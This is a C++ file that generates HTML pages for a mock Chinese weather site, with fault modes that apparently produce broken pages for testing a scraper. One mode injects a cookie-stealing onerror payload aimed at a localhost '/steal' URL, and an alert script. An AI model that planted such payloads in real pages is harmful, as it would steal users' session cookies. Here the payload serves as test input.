// The site's HTML pages in GBK: the forecast page of a city, the index pages and error pages.
#include <string>

#include "site.h"

const char SampleNote[] = "示例数据，非真实天气预报";
const char UnavailableNote[] = "暂时无法获取天气数据，请稍后再试";

namespace {

const char SiteName[] = "云岫天气网";
const char ForecastTitle[] = "未来五天天气趋势预报";
const std::string_view WeekdayNames[7] = {"星期日", "星期一", "星期二", "星期三",
                                          "星期四", "星期五", "星期六"};

std::string Head(std::string_view title) {
    std::string page =
        "<html>\r\n<head>\r\n"
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=gb2312\">\r\n"
        "<title>";
    page += title;
    page +=
        "</title>\r\n"
        "<style type=\"text/css\">\r\n"
        "body { font-size: 12px; margin: 0; }\r\n"
        "a { color: #003399; text-decoration: none; }\r\n"
        ".nav { background: #E8F5E8; padding: 4px; }\r\n"
        "</style>\r\n"
        "</head>\r\n"
        "<body bgcolor=\"#FFFFFF\" text=\"#000000\">\r\n";
    return page;
}

// The masthead: the site's name in bold, then the links, "加入收藏" last.
std::string Masthead(std::string_view provinceLink) {
    std::string page =
        "<table width=\"760\" border=\"0\" cellspacing=\"0\" cellpadding=\"4\" "
        "align=\"center\">\r\n"
        "<tr bgcolor=\"#006600\">\r\n"
        "<td><a href=\"/\"><font color=\"#FFFFFF\" size=\"5\"><b>";
    page += SiteName;
    page +=
        "</b></font></a></td>\r\n"
        "<td align=\"right\"><font color=\"#FFFFFF\"><a href=\"/\"><font "
        "color=\"#FFFFFF\">首页</font></a> | ";
    page += provinceLink;
    page +=
        "<a href=\"/\"><font color=\"#FFFFFF\">设为首页</font></a> | "
        "<a href=\"javascript:window.external.AddFavorite(location.href, document.title)\">"
        "<font color=\"#FFFFFF\">加入收藏</font></a></font></td>\r\n"
        "</tr>\r\n</table>\r\n";
    return page;
}

std::string Footer() {
    std::string page =
        "<hr width=\"760\" size=\"1\" color=\"#006600\">\r\n"
        "<p align=\"center\">预报数据仅供参考 | <a href=\"/\">各省天气</a> | "
        "<a href=\"/\">联系我们</a><br>\r\n";
    page += "Copyright &copy; ";
    page += SiteName;
    page += " 版权所有</p>\r\n</body>\r\n</html>\r\n";
    return page;
}

std::string DateText(long long day) {
    SiteDate d = DateFromDays(day);
    return std::to_string(d.month) + "月" + std::to_string(d.day) + "日";
}

std::string LongDateText(long long day) {
    SiteDate d = DateFromDays(day);
    return std::to_string(d.year) + "年" + DateText(day) + " " +
           std::string(WeekdayNames[WeekdayOfDays(day)]);
}

std::string Icon(int code, FaultMode shape) {
    std::string img = "<img src=\"/image/b" + std::to_string(code) +
                      ".gif\" width=\"50\" "
                      "height=\"46\" alt=\"" +
                      std::string(WeatherName(code)) + "\"";
    if (shape == FaultMode::Script) {
        img += " onerror=\"document.location='http://127.0.0.1:9/steal?'+document.cookie\"";
    }
    return img + ">";
}

// One day's column of the forecast table.
struct Column {
    long long day;
    int dayIcon;
    int nightIcon;  // equal to dayIcon when the weather holds
    std::string words;
    std::string temperatures;
    std::string wind;
};

// The five-day table; a note, when given, is a last row across all columns.
std::string Table(const std::vector<Column>& columns, std::string_view note, FaultMode shape) {
    std::string t =
        "<table width=\"100%\" border=\"1\" cellspacing=\"0\" cellpadding=\"3\" "
        "borderColorLight=\"#008000\" borderColorDark=\"#FFFFFF\" align=\"center\">\r\n";
    t += "<tr align=\"center\" bgcolor=\"#E8F5E8\">";
    for (const Column& c : columns) {
        t += "<td width=\"20%\">" + DateText(c.day) + "<br>" +
             std::string(WeekdayNames[WeekdayOfDays(c.day)]) + "</td>";
    }
    t += "</tr>\r\n<tr align=\"center\">";
    for (const Column& c : columns) {
        t += "<td>" + Icon(c.dayIcon, shape);
        if (c.nightIcon != c.dayIcon) {
            t += Icon(c.nightIcon, shape);
        }
        t += "</td>";
    }
    t += "</tr>\r\n<tr align=\"center\">";
    for (const Column& c : columns) {
        t += "<td>" + c.words;
        if (shape == FaultMode::Script) {
            t += "<script>alert('script in the forecast')</script>";
        }
        t += "</td>";
    }
    t += "</tr>\r\n<tr align=\"center\">";
    bool first = true;
    for (const Column& c : columns) {
        std::string temps = c.temperatures;
        if (shape == FaultMode::Nested && first) {
            temps = "<table border=\"0\"><tr><td>" + temps + "</td></tr></table>";
        }
        first = false;
        t += "<td>" + temps + "</td>";
    }
    t += "</tr>\r\n<tr align=\"center\">";
    for (const Column& c : columns) {
        t += "<td>" + c.wind + "</td>";
    }
    t += "</tr>\r\n";
    if (!note.empty()) {
        t += "<tr align=\"center\"><td colspan=\"" + std::to_string(columns.size()) + "\">" +
             std::string(note) + "</td></tr>\r\n";
    }
    t += "</table>";
    return t;
}

std::string SampleTemperatures(const DayForecast& d) {
    return std::to_string(d.high) + "℃～" + std::to_string(d.low) + "℃";
}

std::vector<Column> SampleColumns(const std::vector<DayForecast>& days) {
    std::vector<Column> columns;
    for (const DayForecast& d : days) {
        columns.push_back(
            {d.day, d.dayCode, d.nightCode, WeatherWords(d), SampleTemperatures(d), d.wind});
    }
    return columns;
}

std::vector<Column> RealColumns(const std::vector<UpstreamDay>& days) {
    std::vector<Column> columns;
    for (const UpstreamDay& d : days) {
        int dayIcon = WmoIcon(d.daytimeCode, d.precipitation);
        int nightIcon = WmoIcon(d.nightCode, d.precipitation);
        columns.push_back({d.day, dayIcon, nightIcon,
                           WeatherWords(DayForecast{d.day, dayIcon, nightIcon, 0, 0, {}}),
                           std::to_string(RoundHalfAway(d.high)) + "℃ ~ " +
                               std::to_string(RoundHalfAway(d.low)) + "℃",
                           WindWords(d.windSpeed, d.windDirection)});
    }
    return columns;
}

std::string ProvinceLink(std::string_view slug, std::string_view name) {
    return "<a href=\"/weather/" + std::string(slug) + "/index.htm\"><font color=\"#FFFFFF\">" +
           std::string(name) + "</font></a> | ";
}

// Capitals for tag and attribute names; quoted values and text stay as they are.
std::string UppercaseTags(const std::string& page) {
    std::string out = page;
    bool inTag = false;
    char quote = 0;
    for (char& c : out) {
        if (!inTag) {
            inTag = c == '<';
        } else if (quote != 0) {
            if (c == quote) {
                quote = 0;
            }
        } else if (c == '"' || c == '\'') {
            quote = c;
        } else if (c == '>') {
            inTag = false;
        } else if (c >= 'a' && c <= 'z') {
            c = static_cast<char>(c - 'a' + 'A');
        }
    }
    return out;
}

std::string NoMarkersPage(const SiteCity& city) {
    std::string page = Head(std::string(city.city) + " - " + SiteName);
    page += "<p align=\"center\"><font size=\"5\" color=\"#006600\">";
    page += SiteName;
    page +=
        "</font></p>\r\n"
        "<p align=\"center\">系统正在维护，天气预报暂停更新，请稍后再来。</p>\r\n"
        "<p align=\"center\"><a href=\"/\">返回首页</a></p>\r\n"
        "</body>\r\n</html>\r\n";
    return page;
}

}  // namespace

std::string ForecastHeading(const SiteCity& city) {
    return std::string(city.province) + " " + std::string(city.city);
}

std::string ForecastTable(const SiteCity& city, long long today) {
    return Table(SampleColumns(ForecastDays(city, today, 5)), SampleNote, FaultMode::None);
}

// The page around a forecast table: masthead, heading, the line on today, the two markers.
static std::string CityFrame(const SiteCity& city, long long published, std::string_view todayLine,
                             const std::string& table, FaultMode shape) {
    if (shape == FaultMode::NoMarkers) {
        return NoMarkersPage(city);
    }
    std::string title = ForecastHeading(city) + "天气预报 - " + SiteName;
    std::string page = Head(title);
    page += Masthead(ProvinceLink(city.slug, city.province));

    page +=
        "<table width=\"760\" border=\"0\" cellspacing=\"0\" cellpadding=\"4\" "
        "align=\"center\">\r\n"
        "<tr><td><font size=\"4\" color=\"#006600\"><b>";
    page += ForecastHeading(city);
    page += "</b></font>";
    if (shape == FaultMode::ZeroByte) {
        page += '\0';
    }
    page += " &nbsp; " + LongDateText(published) + " 发布</td></tr>\r\n";
    page += "<tr><td class=\"nav\"><a href=\"#today\">今日天气</a> | <a href=\"#forecast\">";
    page += shape == FaultMode::OneMarker ? "五日预报" : ForecastTitle;
    page += "</a> | <a href=\"/weather/" + std::string(city.slug) + "/index.htm\">" +
            std::string(city.province) + "其他城市</a></td></tr>\r\n</table>\r\n";

    page +=
        "<a name=\"today\"></a>\r\n"
        "<table width=\"760\" border=\"0\" cellspacing=\"0\" cellpadding=\"4\" "
        "align=\"center\">\r\n"
        "<tr><td>";
    page += todayLine;
    page += "</td></tr>\r\n</table>\r\n";

    page += "<p align=\"center\"><a name=\"forecast\"></a><font color=\"#006600\">";
    page += ForecastTitle;
    page += "</font></p>\r\n";
    page += "<div align=\"center\" style=\"width: 760px; margin: 0 auto\">\r\n";
    page += table;
    page += "\r\n</div>\r\n";
    page += Footer();
    if (shape == FaultMode::Uppercase) {
        return UppercaseTags(page);
    }
    return page;
}

std::string ForecastPage(const SiteCity& city, long long today, FaultMode shape) {
    std::vector<DayForecast> days = ForecastDays(city, today, 5);
    const DayForecast& first = days.front();
    std::string todayLine = "今日天气（示例数据）：" + WeatherWords(first) + "，" +
                            SampleTemperatures(first) + "，" + first.wind;
    return CityFrame(city, today, todayLine, Table(SampleColumns(days), SampleNote, shape), shape);
}

std::string RealForecastPage(const SiteCity& city, const std::vector<UpstreamDay>& days,
                             long long fetchedAt, FaultMode shape) {
    std::vector<Column> columns = RealColumns(days);
    const Column& first = columns.front();
    std::string todayLine =
        "今日天气：" + first.words + "，" + first.temperatures + "，" + first.wind;
    std::string note = "天气数据：Open-Meteo.com（CC BY 4.0），更新于 " + ChinaClockText(fetchedAt);
    return CityFrame(city, ChinaDayOf(fetchedAt), todayLine, Table(columns, note, shape), shape);
}

std::string UnavailablePage(const SiteCity& city, long long today, FaultMode shape) {
    std::string table =
        "<table width=\"100%\" border=\"1\" cellspacing=\"0\" cellpadding=\"3\" "
        "borderColorLight=\"#008000\" borderColorDark=\"#FFFFFF\" align=\"center\">\r\n"
        "<tr align=\"center\"><td>";
    table += UnavailableNote;
    table += "</td></tr>\r\n</table>";
    return CityFrame(city, today, "今日天气：暂无", table, shape);
}

std::size_t ForecastTableEnd(const std::string& page) {
    std::size_t title = page.find(ForecastTitle);
    title = title == std::string::npos ? 0 : page.find(ForecastTitle, title + 1);
    std::size_t end = page.find("</table>", title == std::string::npos ? 0 : title);
    return end == std::string::npos ? page.size() : end + 8;
}

std::string SiteIndexPage() {
    std::string page = Head(std::string(SiteName) + " - 各省天气预报");
    page += Masthead("");
    page += "<p align=\"center\">请选择省份：</p>\r\n<p align=\"center\">\r\n";
    for (const SiteProvince& p : SiteProvinces()) {
        page += "<a href=\"/weather/" + std::string(p.slug) + "/index.htm\">" +
                std::string(p.name) + "</a>\r\n";
    }
    page += "</p>\r\n";
    page += Footer();
    return page;
}

std::string ProvincePage(const SiteProvince& province) {
    std::string page = Head(std::string(province.name) + "天气预报 - " + SiteName);
    page += Masthead(ProvinceLink(province.slug, province.name));
    page += "<p align=\"center\">" + std::string(province.name) + "各城市天气预报：</p>\r\n";
    page += "<p align=\"center\">\r\n";
    for (const SiteCity& c : SiteCities()) {
        if (c.slug == province.slug) {
            page += "<a href=\"" + SitePagePath(c) + "\">" + std::string(c.city) + "</a>\r\n";
        }
    }
    page += "</p>\r\n";
    page += Footer();
    return page;
}

static std::string MessagePage(std::string_view title, std::string_view message) {
    std::string page = Head(std::string(title) + " - " + SiteName);
    page += "<h2 align=\"center\">" + std::string(title) + "</h2>\r\n";
    page += "<p align=\"center\">" + std::string(message) + "</p>\r\n";
    page += "<p align=\"center\"><a href=\"/\">返回首页</a></p>\r\n</body>\r\n</html>\r\n";
    return page;
}

std::string NotFoundPage() {
    return MessagePage("404 找不到网页", "您要找的网页不存在，可能已被删除或改名。");
}

std::string ServerErrorPage() {
    return MessagePage("500 服务器内部错误", "服务器暂时无法处理您的请求，请稍后再试。");
}

std::string BadRequestPage() {
    return MessagePage("400 错误的请求", "服务器无法理解您的请求。");
}
